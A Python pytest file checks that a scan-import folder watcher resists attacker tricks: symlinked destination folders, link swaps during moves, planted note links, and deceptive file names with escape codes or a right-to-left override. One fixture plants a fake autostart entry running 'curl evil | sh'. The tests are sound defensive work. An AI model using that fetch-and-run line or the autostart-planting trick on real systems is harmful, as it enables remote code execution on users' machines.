"""The watched folder as an attacker shares it: planted links, swapped folders, odd names."""

from __future__ import annotations

import io
import os
import random
import threading
import time
from pathlib import Path

import img2pdf
import pytest
from PIL import Image

from tests.clock import Clock
from yongju.core.store import Store
from yongju.core.watching import FolderWatcher, WatchAction, WatchEvent, WatchOptions
from yongju.core.watching.moving import LinkedFolderError, move_aside

FAST = {"quiet_seconds": 0.05, "settle_seconds": 0.5}  # waited on a Clock: nothing really waits


def _pdf(seed: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 50), (seed % 256, 20, 90)).save(buffer, "JPEG", comment=f"l{seed}")
    return bytes(img2pdf.convert(buffer.getvalue()))


def _once(store: Store, folder: Path, **options: object) -> list[WatchEvent]:
    values: dict[str, object] = {**FAST, "move_files": True}
    values.update(options)
    clock = Clock()
    watcher = FolderWatcher(
        store,
        folder,
        WatchOptions(**values),  # type: ignore[arg-type]
        clock=clock,
        sleep=clock.sleep,
    )
    return watcher.run_once(max_wait=10)


def _tree(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    folder = tmp_path / "Scans"
    folder.mkdir()
    return folder


def test_a_linked_refused_folder_receives_nothing(
    store: Store, inbox: Path, tmp_path: Path
) -> None:
    """Issue 9: ``refused`` linked to ~/.config/autostart got evil.desktop and its note."""
    autostart = tmp_path / "home" / ".config" / "autostart"
    autostart.mkdir(parents=True)
    (inbox / "refused").symlink_to(autostart)
    (inbox / "evil.desktop").write_text("[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
    (inbox / "scan.pdf").write_bytes(_pdf(1))
    events = _once(store, inbox)
    assert _tree(autostart) == []
    errors = [e for e in events if e.action is WatchAction.ERROR]
    assert errors and "refused/ is a symbolic link" in errors[0].reason
    assert "moving is stopped" in errors[0].reason
    assert (inbox / "evil.desktop").is_file()  # left where it was, and said so
    refused = next(e for e in events if e.action is WatchAction.REFUSED)
    assert refused.moved_to is None and "left in place" in refused.reason
    # Moving is stopped for the imported file too, though imported/ is a real folder:
    # the user must look at the folder first.
    imported = next(e for e in events if e.action is WatchAction.IMPORTED)
    assert imported.moved_to is None and (inbox / "scan.pdf").is_file()
    assert len(store.documents()) == 1


def test_a_linked_imported_folder_receives_nothing(
    store: Store, inbox: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (inbox / "imported").symlink_to(elsewhere)
    (inbox / "scan.pdf").write_bytes(_pdf(2))
    events = _once(store, inbox)
    assert _tree(elsewhere) == []
    assert any("imported/ is a symbolic link" in e.reason for e in events)
    assert (inbox / "scan.pdf").is_file() and len(store.documents()) == 1


def test_moving_resumes_once_the_link_is_replaced_by_a_folder(
    store: Store, inbox: Path, tmp_path: Path
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (inbox / "imported").symlink_to(elsewhere)
    (inbox / "a.pdf").write_bytes(_pdf(3))
    clock = Clock()
    watcher = FolderWatcher(
        store, inbox, WatchOptions(**FAST, move_files=True), clock=clock, sleep=clock.sleep
    )
    watcher.run_once(max_wait=10)
    (inbox / "imported").unlink()
    (inbox / "b.pdf").write_bytes(_pdf(4))
    events = watcher.run_once(max_wait=10)
    moved = [e for e in events if e.moved_to is not None]
    assert [e.path.name for e in moved] == ["b.pdf"]
    assert (inbox / "imported" / "b.pdf").is_file() and _tree(elsewhere) == []


def test_a_linked_subfolder_inside_refused_is_refused_too(inbox: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (inbox / "refused").mkdir()
    (inbox / "refused" / "passport").symlink_to(elsewhere)
    (inbox / "passport").mkdir()
    (inbox / "passport" / "x.txt").write_text("not a scan")
    with pytest.raises(LinkedFolderError, match=r"refused/passport/ is a symbolic link"):
        move_aside(inbox, "passport/x.txt", "refused", "not a PDF")
    assert _tree(elsewhere) == [] and (inbox / "passport" / "x.txt").is_file()


def test_a_planted_reason_note_link_is_not_written_through(inbox: Path, tmp_path: Path) -> None:
    target = tmp_path / "victim.txt"
    target.write_text("precious")
    (inbox / "refused").mkdir()
    (inbox / "refused" / "bad.pdf.reason.txt").symlink_to(target)
    (inbox / "bad.pdf").write_bytes(b"%PDF-1.7 garbage")
    moved = move_aside(inbox, "bad.pdf", "refused", "it is damaged")
    assert moved == inbox / "refused" / "bad.pdf"
    assert target.read_text() == "precious"
    notes = sorted(p.name for p in (inbox / "refused").iterdir() if p.name.endswith(".txt"))
    assert notes == ["bad.pdf.reason (2).txt", "bad.pdf.reason.txt"]


def test_a_link_swapped_in_between_check_and_move_is_never_followed(
    inbox: Path, tmp_path: Path
) -> None:
    """Another process flips ``refused`` between a real folder and a link while files are
    moved: each move lands inside the watched folder or is refused, never outside."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    real = inbox / "refused"
    parked = inbox / ".parked"
    real.mkdir()
    stop = threading.Event()

    def flip() -> None:
        rng = random.Random(9)
        for turn in range(10**9):
            if stop.is_set():
                return
            try:
                os.rename(real, parked)
            except FileNotFoundError:
                continue
            try:
                os.symlink(elsewhere, real)
                linked = True
            except FileExistsError:  # the mover made a new refused/ in that instant
                linked = False
            if rng.random() < 0.5:
                os.sched_yield()
            if linked:
                os.unlink(real)
            try:
                os.rename(parked, real)
            except OSError:  # the mover made a new refused/ meanwhile: keep both
                os.rename(parked, inbox / f".parked-{turn}")
            if rng.random() < 0.5:  # the real folder stays a moment too (on a RAM disk
                time.sleep(0.0002)  # the flips took so little time that no move got in)

    flipper = threading.Thread(target=flip)
    flipper.start()
    outcomes = {"moved": 0, "link": 0}
    try:
        for i in range(400):
            (inbox / f"f{i}.bin").write_bytes(b"x")
            try:
                move_aside(inbox, f"f{i}.bin", "refused", "not a scan")
                outcomes["moved"] += 1
            except LinkedFolderError:
                outcomes["link"] += 1
            except FileNotFoundError:
                outcomes["link"] += 1  # the folder was parked at that instant
    finally:
        stop.set()
        flipper.join()
    assert _tree(elsewhere) == []
    assert outcomes["moved"] > 0  # the race was really run both ways
    assert sum(1 for name in _tree(inbox) if name.endswith(".bin")) == 400  # none lost


def test_symbolic_links_in_the_folder_are_skipped_not_followed(
    store: Store, inbox: Path, tmp_path: Path
) -> None:
    private = tmp_path / "private"
    private.mkdir()
    (private / "bank.pdf").write_bytes(_pdf(5))
    (inbox / "bank.pdf").symlink_to(private / "bank.pdf")
    (inbox / "documents").symlink_to(private)
    events = _once(store, inbox)
    skipped = {e.path.name: e.reason for e in events if e.action is WatchAction.SKIPPED}
    assert set(skipped) == {"bank.pdf", "documents"}
    assert all("symbolic link" in reason for reason in skipped.values())
    assert store.documents() == []
    assert (inbox / "bank.pdf").is_symlink() and (private / "bank.pdf").is_file()


def test_a_file_swapped_for_a_link_after_the_scan_is_refused(store: Store, inbox: Path) -> None:
    """Between the listing and the import a file may become a link: the importer opens it
    without following and refuses it."""
    from yongju.core.importing import ImportStatus, import_files

    outside = inbox.parent / "secret.pdf"
    outside.write_bytes(_pdf(6))
    (inbox / "scan.pdf").symlink_to(outside)
    (result,) = import_files(store, [inbox / "scan.pdf"], follow_links=False)
    assert result.status is ImportStatus.REFUSED and "symbolic link" in result.reason
    assert store.documents() == []


def test_names_that_are_not_utf8_or_hold_escapes_are_imported(store: Store, inbox: Path) -> None:
    """Issue 9: such a name gave a logging error, a refusal and an orphan blob, and
    ``watch --once`` ended with an unexpected error."""
    names = [os.fsdecode(b"scan-\xff\xfe.pdf"), "evil\n\x1b[31mred.pdf", "\u202eFDP.exe.pdf"]
    for seed, name in enumerate(names):
        (inbox / name).write_bytes(_pdf(10 + seed))
    events = _once(store, inbox, move_files=False)
    assert sorted(e.action.value for e in events) == ["imported"] * 3
    documents = store.documents()
    assert sorted(d.original_name for d in documents) == sorted(
        ["scan-\\xff\\xfe.pdf", "evil\n\x1b[31mred.pdf", "\u202eFDP.exe.pdf"]
    )
    for document in documents:
        document.original_name.encode("utf-8")  # valid text
    assert len(list(store.blobs.all_hashes())) == 3
    clock = Clock()
    again = FolderWatcher(store, inbox, WatchOptions(**FAST), clock=clock, sleep=clock.sleep)
    assert again.run_once(max_wait=10) == []  # remembered under those names
